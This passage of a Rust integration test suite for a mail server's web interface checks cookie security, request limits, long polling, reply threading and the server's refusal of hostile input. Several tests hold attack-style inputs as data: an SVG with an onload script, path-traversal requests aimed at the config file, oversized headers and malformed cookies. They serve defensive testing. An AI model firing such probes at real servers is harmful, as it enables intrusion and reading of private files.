    let text = std::fs::read_to_string(&s.config)
        .unwrap()
        .replace("http = \"127.0.0.1:0\"", "http = \"0.0.0.0:8080\"");
    std::fs::write(&s.config, text).unwrap();
    let out = s.admin(&["config", "check"]);
    assert_ne!(out.code, 0);
    assert!(
        out.stderr.contains("plain HTTP is served on loopback only"),
        "{}",
        out.stderr
    );
}

#[test]
fn https_sets_secure_cookies_and_hsts() {
    if !require("curl") {
        return;
    }
    let s = Server::prepare(WEB);
    let text = std::fs::read_to_string(&s.config)
        .unwrap()
        .replace("http = \"127.0.0.1:0\"", "https = \"127.0.0.1:0\"");
    std::fs::write(&s.config, text).unwrap();
    let mut s = s;
    s.spawn();
    let url = format!("https://127.0.0.1:{}/login", s.addr("https").port());
    let out = std::process::Command::new("curl")
        .args(["-sk", "-D", "-", "-o", "/dev/null", "--max-time", "20"])
        .args(["--data", "user=alice%40example.test&password=alice-pw"])
        .arg(&url)
        .output()
        .unwrap();
    let head = String::from_utf8_lossy(&out.stdout).to_lowercase();
    assert!(head.contains("http/1.1 303"), "{head}");
    assert!(head.contains("set-cookie: postamt_session="), "{head}");
    assert!(head.contains("; secure"), "{head}");
    assert!(head.contains("strict-transport-security"), "{head}");
}

#[test]
fn the_api_logs_in_with_json() {
    let s = server();
    let addr = web(&s);
    let r = request(
        addr,
        "POST",
        "/api/login",
        &[("Content-Type", "application/json")],
        br#"{"user":"bob@example.test","password":"bob-pw"}"#,
    );
    assert_eq!(r.status, 200, "{}", r.text());
    let v = r.json();
    assert_eq!(v["address"], "bob@example.test");
    assert_eq!(v["admin"], false);
    let bad = request(
        addr,
        "POST",
        "/api/login",
        &[("Content-Type", "application/json")],
        br#"{"user":"bob@example.test","password":"x"}"#,
    );
    assert_eq!(bad.status, 401);
}

#[test]
fn oversized_requests_are_refused_and_the_server_goes_on() {
    let s = Server::start(&WEB.replace("[web]\n", "[web]\nmax_body = 65536\n"));
    let b = Browser::logged_in(web(&s), "alice@example.test", "alice-pw");
    let big = "x".repeat(100_000);
    let r = b.post("/compose", &[("to", "bob@example.test"), ("body", &big)]);
    assert_eq!(r.status, 413, "{}", r.text());
    let r = b.api_post(
        "/api/compose",
        serde_json::json!({"to": "bob@example.test", "body": big}),
    );
    assert_eq!(r.status, 413, "{}", r.text());
    // A header block beyond the bound: refused, nothing else disturbed.
    let mut c = std::net::TcpStream::connect(b.addr).unwrap();
    c.set_read_timeout(Some(std::time::Duration::from_secs(10)))
        .unwrap();
    use std::io::{Read, Write};
    let _ = c.write_all(
        format!(
            "GET /login HTTP/1.1\r\nHost: x\r\nX-Big: {}\r\n\r\n",
            "a".repeat(200_000)
        )
        .as_bytes(),
    );
    let mut answer = Vec::new();
    let _ = c.read_to_end(&mut answer);
    let answer = String::from_utf8_lossy(&answer);
    assert!(
        answer.is_empty()
            || answer.starts_with("HTTP/1.1 431")
            || answer.starts_with("HTTP/1.1 400"),
        "{answer}"
    );
    assert_eq!(b.get("/api/me").status, 200);
    assert!(maildrop(&s, "bob@example.test", "bob-pw").is_empty());
}

#[test]
fn a_live_view_waits_for_the_next_line() {
    let s = server();
    let b = Browser::logged_in(web(&s), "alice@example.test", "alice-pw");
    let mut c = smtp(&s, "smtp");
    c.smtp("EHLO waiting.example", "250");
    let list = b.get("/api/sessions").json();
    let id = list
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["protocol"] == "smtp" && x["live"] == true)
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let n = b.get(&format!("/api/sessions/{id}")).json()["rows"]
        .as_array()
        .unwrap()
        .len();
    // Nothing new: the request is held for the time asked, then answers.
    let t = std::time::Instant::now();
    let quiet = b.get(&format!("/api/sessions/{id}?from={n}&wait=1")).json();
    assert!(t.elapsed() >= std::time::Duration::from_millis(900));
    assert_eq!(quiet["rows"].as_array().unwrap().len(), 0);
    assert_eq!(quiet["live"], true);
    // A line typed while the request waits: the answer carries it at once.
    let addr = b.addr;
    let cookie = b.cookie.clone();
    let path = format!("/api/sessions/{id}?from={n}&wait=20");
    let waiter = std::thread::spawn(move || {
        let mut w = Browser::new(addr);
        w.cookie = cookie;
        let t = std::time::Instant::now();
        (w.get(&path).json(), t.elapsed())
    });
    std::thread::sleep(std::time::Duration::from_millis(300));
    c.smtp("MAIL FROM:<x@elsewhere.test>", "250");
    let (v, took) = waiter.join().unwrap();
    assert!(took < std::time::Duration::from_secs(5), "{took:?}");
    assert!(v["rows"].to_string().contains("MAIL FROM"), "{v}");
    c.smtp("QUIT", "221");
}

#[test]
fn inline_images_of_the_message_are_shown_in_the_frame() {
    let s = server();
    let m = concat!(
        "From: a@example.test\r\nTo: alice@example.test\r\nSubject: logo\r\n",
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"r\"\r\n\r\n",
        "--r\r\nContent-Type: text/html\r\n\r\n",
        "<p>See <img src=\"cid:logo@example.test\"> and <img src=\"cid:svg@example.test\"></p>\r\n",
        "--r\r\nContent-Type: image/png\r\nContent-ID: <logo@example.test>\r\n",
        "Content-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n",
        "--r\r\nContent-Type: image/svg+xml\r\nContent-ID: <svg@example.test>\r\n\r\n",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>\r\n",
        "--r--\r\n"
    );
    s.deliver("a@example.test", &["alice@example.test"], m.as_bytes())
        .success();
    let b = Browser::logged_in(web(&s), "alice@example.test", "alice-pw");
    let (inbox, uid) = inbox_of(&b);
    let body = b.get(&format!("/mail/{inbox}/{uid}/body")).text();
    assert!(
        body.contains("src=\"data:image/png;base64,iVBORw0KGgo=\""),
        "{body}"
    );
    assert!(!body.contains("cid:"), "{body}");
    assert!(!body.contains("svg+xml"), "SVG is never inlined: {body}");
}

#[test]
fn hostile_requests_get_a_clear_refusal_and_the_server_goes_on() {
    let s = server();
    let b = Browser::logged_in(web(&s), "alice@example.test", "alice-pw");
    let cookie = format!("postamt_session={}", b.cookie.clone().unwrap());
    let long = format!("/mail/{}", "9".repeat(5000));
    let cases: Vec<(&str, String)> = vec![
        ("GET", "/mail/not-a-number".into()),
        ("GET", "/mail/1/-5".into()),
        ("GET", "/mail/99999999999999999999999".into()),
        ("GET", long),
        ("GET", "/sessions/%2e%2e%2f%2e%2e%2fpostamt.toml".into()),
        ("GET", "/static/../postamt.toml".into()),
        ("TRACE", "/mail".into()),
        ("DELETE", "/mail/1/1".into()),
        ("OPTIONS", "/api/mailboxes".into()),
        ("POST", "/api/compose".into()),
        ("GET", "/api/sessions/x?from=18446744073709551616".into()),
        ("GET", "/api/sessions/x?wait=99999999999".into()),
    ];
    for (method, path) in &cases {
        let r = request(b.addr, method, path, &[("Cookie", &cookie)], b"");
        assert!(
            (400..500).contains(&r.status),
            "{method} {path}: {} {}",
            r.status,
            r.text()
        );
        assert!(
            r.header("content-security-policy").is_some(),
            "{method} {path}"
        );
    }
    // Odd but harmless: answered, never a server error.
    for path in [
        "/mail/1?page=-1&sort=%ZZ",
        "/mail/1?q=%FF%FE",
        "/mail/1?page=99999999",
    ] {
        let r = request(b.addr, "GET", path, &[("Cookie", &cookie)], b"");
        assert!(r.status < 500, "{path}: {}", r.status);
    }
    // Junk where JSON is expected, many cookies, a broken cookie.
    let r = request(
        b.addr,
        "POST",
        "/api/login",
        &[("Content-Type", "application/json")],
        b"{\"user\": [1,2,3]",
    );
    assert!((400..500).contains(&r.status), "{}", r.status);
    let many: String = (0..200).map(|i| format!("c{i}=x; ")).collect::<String>() + &cookie;
    assert_eq!(
        request(b.addr, "GET", "/api/me", &[("Cookie", &many)], b"").status,
        200
    );
    assert_eq!(
        request(
            b.addr,
            "GET",
            "/api/me",
            &[("Cookie", "postamt_session")],
            b""
        )
        .status,
        401
    );
    // Not HTTP at all.
    {
        use std::io::{Read, Write};
        let mut c = std::net::TcpStream::connect(b.addr).unwrap();
        c.set_read_timeout(Some(std::time::Duration::from_secs(10)))
            .unwrap();
        c.write_all(b"EHLO i.am.lost\r\n\r\n").unwrap();
        let mut answer = Vec::new();
        let _ = c.read_to_end(&mut answer);
        let answer = String::from_utf8_lossy(&answer);
        assert!(
            answer.is_empty() || answer.starts_with("HTTP/1.1 400"),
            "{answer}"
        );
    }
    assert_eq!(b.get("/api/me").status, 200, "still serving");
}

#[test]
fn a_reply_keeps_the_thread_and_html_can_be_read_as_text() {
    let s = server();
    let m = concat!(
        "From: Bob <bob@example.test>\r\nTo: alice@example.test\r\n",
        "Subject: Lunch?\r\nMessage-ID: <q2@example.test>\r\n",
        "References: <q1@example.test>\r\nMIME-Version: 1.0\r\n",
        "Content-Type: text/html\r\n\r\n<p>Lunch at <b>noon</b>?</p>\r\n"
    );
    s.deliver("bob@example.test", &["alice@example.test"], m.as_bytes())
        .success();
    let b = Browser::logged_in(web(&s), "alice@example.test", "alice-pw");
    let (inbox, uid) = inbox_of(&b);
    // The HTML message as text, and back.
    let text = b.get(&format!("/mail/{inbox}/{uid}?view=text")).text();
    assert!(text.contains("id=\"text-body\""), "{text}");
    assert!(!text.contains("<iframe"), "{text}");
    assert!(text.contains("Lunch at noon?"), "{text}");
    assert!(
        b.get(&format!("/mail/{inbox}/{uid}"))
            .text()
            .contains("<iframe")
    );
    // Reply: the form comes filled in.
    let form = b.get(&format!("/compose?mailbox={inbox}&uid={uid}")).text();
    assert!(form.contains("value=\"bob@example.test\""), "{form}");
    assert!(form.contains("value=\"Re: Lunch?\""), "{form}");
    assert!(
        form.contains("name=\"in_reply_to\" value=\"q2@example.test\""),
        "{form}"
    );
    assert!(form.contains("q1@example.test q2@example.test"), "{form}");
    assert!(
        form.contains("&#62; Lunch at noon?") || form.contains("&gt; Lunch at noon?"),
        "{form}"
    );
    let r = b.post(
        "/compose",
        &[
            ("to", "bob@example.test"),
            ("subject", "Re: Lunch?"),
            ("body", "Yes.\n"),
            ("in_reply_to", "q2@example.test"),
            ("references", "q1@example.test q2@example.test"),
        ],
    );
    assert_eq!(r.status, 200, "{}", r.text());
    let got = maildrop(&s, "bob@example.test", "bob-pw");
    let reply = &got[0];
    assert!(reply.contains("In-Reply-To: <q2@example.test>"), "{reply}");
    assert!(
        reply.contains("<q1@example.test>") && reply.contains("References:"),
        "{reply}"
    );
    // Another user's message cannot be replied to (nor read that way).
    let bob = Browser::logged_in(b.addr, "bob@example.test", "bob-pw");
    assert_eq!(
        bob.get(&format!("/compose?mailbox={inbox}&uid={uid}"))
            .status,
        404
    );
}
